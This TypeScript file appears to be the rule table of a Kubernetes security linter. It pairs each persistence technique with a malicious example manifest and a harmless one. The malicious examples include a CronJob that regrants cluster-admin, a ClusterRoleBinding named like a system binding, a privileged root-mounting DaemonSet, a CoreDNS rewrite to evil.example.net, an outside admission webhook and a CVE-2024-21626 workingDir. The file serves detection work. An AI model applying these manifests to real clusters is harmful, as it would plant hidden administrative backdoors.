import type { Severity } from "../../../kube/problem.ts";
import { commandTable } from "./command-table.ts";

export interface BackdoorRow {
  readonly id: string;
  readonly severity: Severity;
  readonly title: string;
  readonly hint: string;
  readonly source: string;
  readonly same: readonly string[];
  readonly positive: string;
  readonly negative: string;
}

const look = "read who added it and why before anything else; the plan that carries it is denied";
const pod = (fields: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: shop}\nspec: {${fields}}`;
const command = (line: string): string =>
  pod(`containers: [{name: a, command: [sh, -c, ${JSON.stringify(line)}]}]`);
const onNode = (line: string): string =>
  pod(`hostPID: true, containers: [{name: a, command: [sh, -c, ${JSON.stringify(line)}]}]`);
const role = (labels: string, rules = "[]"): string =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: reports${labels}}\nrules: ${rules}`;
const binding = (name: string, roleName: string): string =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: '${name}'}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: '${roleName}'}\nsubjects: [{kind: ServiceAccount, name: x, namespace: shop}]`;
const webhook = (fields: string): string =>
  `apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: w}\nwebhooks: [{name: w.example.com, ${fields}}]`;
const rules = (resources: string): string =>
  `rules: [{apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['${resources}']}]`;
const local = "clientConfig: {service: {name: w, namespace: shop}}";

/** The techniques of people who want to stay, each with an example and its nearest harmless neighbour. */
export const backdoorTable: readonly BackdoorRow[] = [
  ...commandTable.map(
    (row): BackdoorRow => ({
      id: row.id,
      severity: "error",
      title: `No container ${row.what}`,
      hint: look,
      source: row.source,
      same: [],
      positive: row.onNode === true ? onNode(row.positive[0] ?? "") : command(row.positive[0] ?? ""),
      negative: command(row.negative[0] ?? ""),
    }),
  ),
  {
    id: "backdoor/working-directory",
    severity: "error",
    title: "No container works in a file that runc left open",
    hint: "remove workingDir; it is the sign of CVE-2024-21626",
    source: "CVE-2024-21626",
    same: [],
    positive: pod("containers: [{name: a, workingDir: /proc/self/fd/7}]"),
    negative: pod("containers: [{name: a, workingDir: /srv}]"),
  },
  {
    id: "backdoor/clusterrolebinding-mimics-system",
    severity: "error",
    title: "No binding of one's own has a name of the system's",
    hint: look,
    source:
      "published campaign (Aqua, RBAC Buster: a ClusterRoleBinding system:controller:kube-controller); MITRE T1036.005",
    same: [],
    positive: binding("system:controller:kube-controller", "cluster-admin"),
    negative: binding("shop-controller", "view"),
  },
  {
    id: "backdoor/aggregated-permissions",
    severity: "error",
    title: "No role widens view, edit or admin for everybody who has them",
    hint: "give the permissions in a role of their own",
    source: "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#aggregated-clusterroles",
    same: [],
    positive: role(
      ", labels: {rbac.authorization.k8s.io/aggregate-to-view: 'true'}",
      "[{apiGroups: [''], resources: [secrets], verbs: [get]}]",
    ),
    negative: role(
      ", labels: {rbac.authorization.k8s.io/aggregate-to-view: 'true'}",
      "[{apiGroups: [example.com], resources: [things], verbs: [get]}]",
    ),
  },
  {
    id: "backdoor/webhook-sees-everything",
    severity: "warning",
    title: "Admission webhooks look at the kinds they are for",
    hint: "name groups, resources and a namespaceSelector",
    source: "Threat Matrix for Kubernetes, malicious admission controller; MITRE T1546",
    same: ["kubescape:C-0039", "kubescape:C-0036"],
    positive: webhook(`${local}, ${rules("*/*")}`),
    negative: webhook(
      `${local}, rules: [{apiGroups: [apps], apiVersions: [v1], operations: [CREATE], resources: [deployments]}]`,
    ),
  },
  {
    id: "backdoor/webhook-outside",
    severity: "error",
    title: "Admission webhooks are asked inside the cluster",
    hint: "use clientConfig.service; a URL sends every object there, Secrets among them",
    source: "Threat Matrix for Kubernetes, malicious admission controller",
    same: ["kubescape:C-0036"],
    positive: webhook(`clientConfig: {url: 'https://203.0.113.9/w'}, ${rules("pods")}`),
    negative: webhook(`${local}, ${rules("pods")}`),
  },
  {
    id: "backdoor/control-plane-imitation",
    severity: "error",
    title: "No Pod poses as a part of the control plane",
    hint: look,
    source: "MITRE T1036.005; Threat Matrix for Kubernetes, Pod or container name similarity",
    same: [],
    positive:
      "apiVersion: v1\nkind: Pod\nmetadata: {name: kube-controller-manager-node1, namespace: kube-system}\nspec: {containers: [{name: a, image: 'docker.io/user/kcm:1'}]}",
    negative:
      "apiVersion: v1\nkind: Pod\nmetadata: {name: kube-controller-manager-node1, namespace: kube-system}\nspec: {containers: [{name: a, image: 'registry.k8s.io/kube-controller-manager:v1.34.0'}]}",
  },
  {
    id: "backdoor/static-pod-folder",
    severity: "error",
    title: "No Pod writes where the kubelet looks for static Pods",
    hint: look,
    source: "Threat Matrix for Kubernetes, static Pods",
    same: [],
    positive: pod(
      "volumes: [{name: m, hostPath: {path: /etc/kubernetes/manifests}}], containers: [{name: a, volumeMounts: [{name: m, mountPath: /m}]}]",
    ),
    negative: pod(
      "volumes: [{name: m, hostPath: {path: /etc/kubernetes/manifests}}], containers: [{name: a, volumeMounts: [{name: m, mountPath: /m, readOnly: true}]}]",
    ),
  },
  {
    id: "backdoor/look-alike-image",
    severity: "error",
    title: "No image has nearly the name of a well-known one",
    hint: "compare the name letter by letter with the one that you meant",
    source: "typosquatting of registries (MITRE T1608.001)",
    same: [],
    positive: pod("containers: [{name: a, image: 'ngnix:1.27'}]"),
    negative: pod("containers: [{name: a, image: 'nginx:1.27'}]"),
  },
  {
    id: "backdoor/hidden-text",
    severity: "error",
    title: "Nothing in an object is hidden from its reader",
    hint: "remove the character, and read the line again",
    source: "Unicode TR36; CVE-2021-42574",
    same: [],
    positive: pod('containers: [{name: a, args: ["x\\u202Ey"]}]'),
    negative: pod('containers: [{name: a, args: ["x y"]}]'),
  },
  {
    id: "backdoor/mounted-token",
    severity: "warning",
    title: "No Pod mounts the token of another ServiceAccount by hand",
    hint: "use serviceAccountName, which the API server checks",
    source: "MITRE T1528",
    same: [],
    positive: pod(
      "volumes: [{name: t, secret: {secretName: admin-token-x7k2p}}], containers: [{name: a, volumeMounts: [{name: t, mountPath: /var/run/secrets/kubernetes.io/serviceaccount}]}]",
    ),
    negative: pod(
      "volumes: [{name: t, secret: {secretName: tls}}], containers: [{name: a, volumeMounts: [{name: t, mountPath: /tls}]}]",
    ),
  },
  {
    id: "backdoor/service-account-token-secret",
    severity: "warning",
    title: "No Secret asks for a token that never ends",
    hint: "use TokenRequest (kubectl create token), whose tokens end",
    source: "https://kubernetes.io/docs/concepts/security/service-accounts/#get-a-token",
    same: [],
    positive:
      "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata: {name: t, namespace: shop, annotations: {kubernetes.io/service-account.name: admin}}",
    negative: "apiVersion: v1\nkind: Secret\ntype: Opaque\nmetadata: {name: t, namespace: shop}",
  },
  {
    id: "backdoor/last-applied-differs",
    severity: "error",
    title: "kubectl's copy of an object says the same as the object",
    hint: "remove the annotation; kubectl writes it anew",
    source: "kubectl apply (three-way merge reads it)",
    same: [],
    positive:
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  annotations:\n    kubectl.kubernetes.io/last-applied-configuration: \'{"apiVersion":"v1","kind":"Secret","metadata":{"name":"b"}}\'',
    negative:
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  annotations:\n    kubectl.kubernetes.io/last-applied-configuration: \'{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"a"}}\'',
  },
  {
    id: "backdoor/recreates-bindings",
    severity: "error",
    title: "No job makes permissions or workloads on a schedule",
    hint: look,
    source: "Threat Matrix for Kubernetes, CronJob; MITRE T1053.007",
    same: ["kubescape:C-0026"],
    positive:
      "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a, namespace: shop}\nspec: {schedule: '* * * * *', jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: a, command: [sh, -c, 'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=shop:x']}]}}}}}",
    negative:
      "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a, namespace: shop}\nspec: {schedule: '* * * * *', jobTemplate: {spec: {template: {spec: {restartPolicy: Never, containers: [{name: a, command: [sh, -c, 'kubectl get pods']}]}}}}}",
  },
  {
    id: "backdoor/dns-rewrite",
    severity: "error",
    title: "The cluster's DNS answers with what it knows, not with what somebody wrote in",
    hint: look,
    source: "Threat Matrix for Kubernetes, CoreDNS poisoning; MITRE T1557",
    same: ["kubescape:C-0037"],
    positive:
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: coredns, namespace: kube-system}\ndata: {Corefile: ".:53 {\\n rewrite name api.example.com evil.example.net\\n}"}',
    negative:
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: coredns, namespace: kube-system}\ndata: {Corefile: ".:53 {\\n kubernetes cluster.local\\n forward . /etc/resolv.conf\\n}"}',
  },
  {
    id: "backdoor/selectorless-endpoints",
    severity: "warning",
    title: "Endpoints that are written by hand lead where the Service's owner wants",
    hint: "use a Service with a selector, or type ExternalName",
    source: "CVE-2020-8554, CVE-2021-25740",
    same: ["kubescape:C-0058"],
    positive:
      "apiVersion: v1\nkind: Service\nmetadata: {name: api, namespace: shop}\nspec: {ports: [{port: 443}]}\n---\napiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\naddressType: IPv4\nmetadata: {name: api-1, namespace: shop, labels: {kubernetes.io/service-name: api}}\nports: [{port: 443}]\nendpoints: [{addresses: [203.0.113.9]}]",
    negative:
      "apiVersion: v1\nkind: Service\nmetadata: {name: api, namespace: shop}\nspec: {selector: {app: a}, ports: [{port: 443}]}",
  },
  {
    id: "backdoor/privileged-everywhere",
    severity: "error",
    title: "No DaemonSet runs a shell of an ordinary image as root of every node",
    hint: look,
    source: "published campaigns of miners (DaemonSets with the host's root and a loop); MITRE T1610",
    same: [],
    positive:
      "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: a, namespace: shop}\nspec: {selector: {matchLabels: {app: a}}, template: {metadata: {labels: {app: a}}, spec: {hostPID: true, volumes: [{name: h, hostPath: {path: /}}], containers: [{name: a, image: 'alpine:3', command: [sh, -c, sleep infinity], securityContext: {privileged: true}, volumeMounts: [{name: h, mountPath: /host}]}]}}}",
    negative:
      "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: a, namespace: shop}\nspec: {selector: {matchLabels: {app: a}}, template: {metadata: {labels: {app: a}}, spec: {containers: [{name: a, image: 'alpine:3', command: [sh, -c, sleep infinity]}]}}}",
  },
  {
    id: "backdoor/controller-account",
    severity: "error",
    title: "No Pod runs as a controller of Kubernetes",
    hint: look,
    source: "bootstrap policy; MITRE T1078.001",
    same: [],
    positive:
      "apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: kube-system}\nspec: {serviceAccountName: namespace-controller, containers: [{name: a}]}",
    negative:
      "apiVersion: v1\nkind: Pod\nmetadata: {name: a, namespace: kube-system}\nspec: {serviceAccountName: coredns, containers: [{name: a}]}",
  },
  {
    id: "backdoor/preload",
    severity: "error",
    title: "No program loads a library that another container put there",
    hint: look,
    source: "MITRE T1574.006",
    same: [],
    positive: pod(
      "volumes: [{name: l, emptyDir: {}}], containers: [{name: a, env: [{name: LD_PRELOAD, value: /l/x.so}], volumeMounts: [{name: l, mountPath: /l}]}]",
    ),
    negative: pod("containers: [{name: a, env: [{name: LD_PRELOAD, value: /usr/lib/libjemalloc.so}]}]"),
  },
  {
    id: "backdoor/webhook-sees-secrets",
    severity: "warning",
    title: "Admission webhooks are not shown Secrets",
    hint: "leave secrets out of the rules, or narrow them by a selector",
    source: "Threat Matrix for Kubernetes, malicious admission controller",
    same: ["kubescape:C-0036"],
    positive: webhook(`${local}, ${rules("secrets")}`),
    negative: webhook(`${local}, ${rules("secrets")}, namespaceSelector: {matchLabels: {a: b}}`),
  },
  {
    id: "backdoor/masters-certificate",
    severity: "error",
    title: "Nobody asks for a certificate of system:masters, or of a part of Kubernetes",
    hint: look,
    source: "CIS Kubernetes Benchmark 5.1.7; a certificate cannot be taken back",
    same: [],
    positive:
      "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: a}\nspec: {signerName: kubernetes.io/kube-apiserver-client, groups: ['system:masters'], request: YQ==}",
    negative:
      "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: a}\nspec: {signerName: kubernetes.io/kube-apiserver-client, groups: ['system:authenticated'], request: YQ==}",
  },
  {
    id: "backdoor/cloud-administrators",
    severity: "warning",
    title: "Identities of the cloud are no administrators by aws-auth",
    hint: "use access entries of EKS, which the cloud's log shows, or a group with a role of its own",
    source:
      "https://docs.aws.amazon.com/eks/latest/best-practices/identity-and-access-management.html; MITRE T1098",
    same: [],
    positive:
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: aws-auth, namespace: kube-system}\ndata: {mapRoles: "- rolearn: arn:aws:iam::111122223333:role/x\\n  groups: [system:masters]"}',
    negative:
      'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: aws-auth, namespace: kube-system}\ndata: {mapRoles: "- rolearn: arn:aws:iam::111122223333:role/x\\n  groups: [system:nodes]"}',
  },
  {
    id: "backdoor/system-namespace-binding",
    severity: "warning",
    title: "Nobody outside the cluster has rights over kube-system",
    hint: "name the objects that are needed in a Role",
    source: "MITRE T1098",
    same: [],
    positive:
      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: a, namespace: kube-system}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}\nsubjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: eve@example.com}]",
    negative:
      "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: a, namespace: kube-system}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\nsubjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: eve@example.com}]",
  },
  {
    id: "backdoor/policy-injects",
    severity: "warning",
    title: "No admission policy puts containers or accounts into other people's Pods",
    hint: look,
    source: "Threat Matrix for Kubernetes, sidecar injection",
    same: [],
    positive:
      'apiVersion: admissionregistration.k8s.io/v1beta1\nkind: MutatingAdmissionPolicy\nmetadata: {name: a}\nspec: {mutations: [{patchType: JSONPatch, jsonPatch: {expression: \'[JSONPatch{op: "replace", path: "/spec/serviceAccountName", value: "x"}]\'}}]}',
    negative:
      'apiVersion: admissionregistration.k8s.io/v1beta1\nkind: MutatingAdmissionPolicy\nmetadata: {name: a}\nspec: {mutations: [{patchType: JSONPatch, jsonPatch: {expression: \'[JSONPatch{op: "add", path: "/metadata/labels/a", value: "x"}]\'}}]}',
  },
  {
    id: "backdoor/metadata-service",
    severity: "error",
    title: "No Service leads to the metadata of the cloud",
    hint: look,
    source: "MITRE T1552.005",
    same: [],
    positive:
      "apiVersion: v1\nkind: Service\nmetadata: {name: a, namespace: shop}\nspec: {type: ExternalName, externalName: metadata.google.internal}",
    negative:
      "apiVersion: v1\nkind: Service\nmetadata: {name: a, namespace: shop}\nspec: {type: ExternalName, externalName: db.example.com}",
  },
  {
    id: "backdoor/forged-endpoints",
    severity: "error",
    title: "No addresses pose as those that the controller writes",
    hint: "remove the label; a slice of one's own says who manages it",
    source: "https://kubernetes.io/docs/concepts/services-networking/endpoint-slices/#management",
    same: [],
    positive:
      "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\naddressType: IPv4\nmetadata: {name: a, namespace: shop, labels: {endpointslice.kubernetes.io/managed-by: endpointslice-controller.k8s.io}}\nendpoints: []",
    negative:
      "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\naddressType: IPv4\nmetadata: {name: a, namespace: shop, labels: {endpointslice.kubernetes.io/managed-by: ops.example.com}}\nendpoints: []",
  },
  {
    id: "backdoor/outside-api",
    severity: "error",
    title: "No part of the API is answered from outside the cluster",
    hint: look,
    source: "https://kubernetes.io/docs/concepts/extend-kubernetes/api-extension/apiserver-aggregation/",
    same: [],
    positive:
      "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1.x.example.com}\nspec: {group: x.example.com, version: v1, groupPriorityMinimum: 1, versionPriority: 1, service: {name: x, namespace: shop}}\n---\napiVersion: v1\nkind: Service\nmetadata: {name: x, namespace: shop}\nspec: {type: ExternalName, externalName: api.example.net}",
    negative:
      "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1.x.example.com}\nspec: {group: x.example.com, version: v1, groupPriorityMinimum: 1, versionPriority: 1, service: {name: x, namespace: shop}}\n---\napiVersion: v1\nkind: Service\nmetadata: {name: x, namespace: shop}\nspec: {selector: {app: x}}",
  },
  {
    id: "backdoor/unproved-source",
    severity: "warning",
    title: "What is applied comes from where its owner is proved",
    hint: "use https or ssh with a host name",
    source: "MITRE T1195.002",
    same: [],
    positive:
      "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a, namespace: argocd}\nspec: {source: {repoURL: 'http://git.example.com/a.git'}}",
    negative:
      "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a, namespace: argocd}\nspec: {source: {repoURL: 'https://git.example.com/a.git'}}",
  },
  {
    id: "backdoor/project-without-bounds",
    severity: "warning",
    title: "A project of Argo CD has bounds",
    hint: "name repositories, namespaces and kinds",
    source: "https://argo-cd.readthedocs.io/en/stable/user-guide/projects/",
    same: [],
    positive:
      "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {name: a, namespace: argocd}\nspec: {sourceRepos: ['*'], destinations: [{namespace: '*', server: '*'}], clusterResourceWhitelist: [{group: '*', kind: '*'}]}",
    negative:
      "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {name: a, namespace: argocd}\nspec: {sourceRepos: ['*'], destinations: [{namespace: shop, server: '*'}]}",
  },
  {
    id: "backdoor/misnamed-policy",
    severity: "warning",
    title: "A policy does what its name says",
    hint: "remove the empty rule, or the name",
    source: "https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-policies",
    same: [],
    positive:
      "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: default-deny, namespace: shop}\nspec: {podSelector: {}, ingress: [{}]}",
    negative:
      "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: default-deny, namespace: shop}\nspec: {podSelector: {}, policyTypes: [Ingress]}",
  },
  {
    id: "backdoor/exempt-namespace",
    severity: "warning",
    title: "No namespace is both privileged and hidden from policies",
    hint: look,
    source: "MITRE T1562.001",
    same: [],
    positive:
      "apiVersion: v1\nkind: Namespace\nmetadata: {name: a, labels: {pod-security.kubernetes.io/enforce: privileged, admission.gatekeeper.sh/ignore: 'true'}}",
    negative:
      "apiVersion: v1\nkind: Namespace\nmetadata: {name: a, labels: {pod-security.kubernetes.io/enforce: privileged}}",
  },
  {
    id: "backdoor/node-volume",
    severity: "error",
    title: "No volume of the cluster is a node's own system",
    hint: look,
    source: "Threat Matrix for Kubernetes, writable hostPath mount",
    same: ["kubescape:C-0257"],
    positive:
      "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: a}\nspec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /}}",
    negative:
      "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: a}\nspec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], hostPath: {path: /srv/data}}",
  },
];

const byId = new Map(backdoorTable.map((row) => [row.id, row]));

export function backdoorOf(id: string): BackdoorRow | undefined {
  return byId.get(id);
}
